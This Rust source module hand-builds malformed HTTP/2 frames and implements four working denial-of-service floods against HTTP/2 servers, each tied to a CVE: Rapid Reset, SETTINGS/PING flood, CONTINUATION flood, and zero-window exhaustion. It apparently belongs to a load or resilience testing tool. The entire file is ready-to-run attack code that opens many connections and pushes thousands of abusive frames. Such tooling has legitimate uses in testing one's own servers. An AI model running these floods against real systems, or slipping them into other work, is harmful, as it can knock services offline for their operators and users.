//! HTTP/2 frames as an attacker makes them (RFC 9113): no library would send these.

use crate::flood::Door;
use std::io::Read;
use std::net::TcpStream;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// A frame (section 4.1): length, type, flags, stream, payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// A header of a literal name and value that is not kept (RFC 7541, section 6.2.2).
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        // Lengths from 127 on need more than one byte (section 5.1).
        match text.len() {
            length @ 0..127 => bytes.push(u8::try_from(length).unwrap()),
            length => {
                bytes.push(127);
                let mut rest = length - 127;
                while rest >= 128 {
                    bytes.push(u8::try_from(rest % 128).unwrap() | 128);
                    rest /= 128;
                }
                bytes.push(u8::try_from(rest).unwrap());
            }
        }
        bytes.extend(text.as_bytes());
    }
    bytes
}

fn request(door: &Door) -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (RFC 7541, appendix A)
    block.extend(literal(":path", door.path()));
    block.extend(literal(":authority", "h"));
    if let Some(key) = door.key() {
        block.extend(literal("authorization", &format!("Bearer {key}")));
    }
    block
}

/// A connection that has said hello, with these settings.
fn open(door: &Door, settings: &[u8]) -> TcpStream {
    let mut stream = door.connect();
    let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    hello.extend(frame(SETTINGS, 0, 0, settings));
    Door::push(&mut stream, &hello);
    stream
}

/// CVE-2023-44487.
pub(crate) fn rapid_reset(door: &Door) -> Vec<TcpStream> {
    let block = request(door);
    let begin = |_| {
        let mut stream = open(door, &[]);
        for batch in 0..20_u32 {
            let mut bytes = Vec::new();
            for nth in 0..100 {
                let id = 2 * (batch * 100 + nth) + 1;
                bytes.extend(frame(HEADERS, END_HEADERS, id, &block));
                bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
            }
            Door::push(&mut stream, &bytes);
        }
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2019-9515 and CVE-2019-9512: each asks for an answer that is never read.
pub(crate) fn settings_flood(door: &Door) -> Vec<TcpStream> {
    let mut bytes = Vec::new();
    for _ in 0..2_500 {
        bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]));
        bytes.extend(frame(PING, 0, 0, &[0; 8]));
    }
    let begin = |_| {
        let mut stream = open(door, &[]);
        Door::push(&mut stream, &bytes);
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2024-27316: the head never ends.
pub(crate) fn continuation_flood(door: &Door) -> Vec<TcpStream> {
    let more = frame(CONTINUATION, 0, 1, &literal("x-more", &"a".repeat(16_000)));
    let begin = |_| {
        let mut stream = open(door, &[]);
        Door::push(&mut stream, &frame(HEADERS, 0, 1, &request(door)));
        (0..500).for_each(|_| Door::push(&mut stream, &more));
        stream
    };
    (0..10).map(begin).collect()
}

/// CVE-2019-9517: answers are asked for and may not be sent.
pub(crate) fn no_window(door: &Door) -> Vec<TcpStream> {
    let row = format!("[{}]", ["1"; 64].join(","));
    let body = format!("{{\"data\":[{}]}}", vec![row; 80].join(","));
    let begin = |_| {
        // SETTINGS_INITIAL_WINDOW_SIZE 0.
        let mut stream = open(door, &[0, 4, 0, 0, 0, 0]);
        for nth in 0..100 {
            let id = 2 * nth + 1;
            let mut bytes = frame(HEADERS, END_HEADERS, id, &request(door));
            bytes.extend(frame(DATA, END_STREAM, id, body.as_bytes()));
            Door::push(&mut stream, &bytes);
        }
        // What the server says of it is not waited for.
        let mut some = [0; 9];
        let _ = stream.read(&mut some);
        stream
    };
    (0..20).map(begin).collect()
}
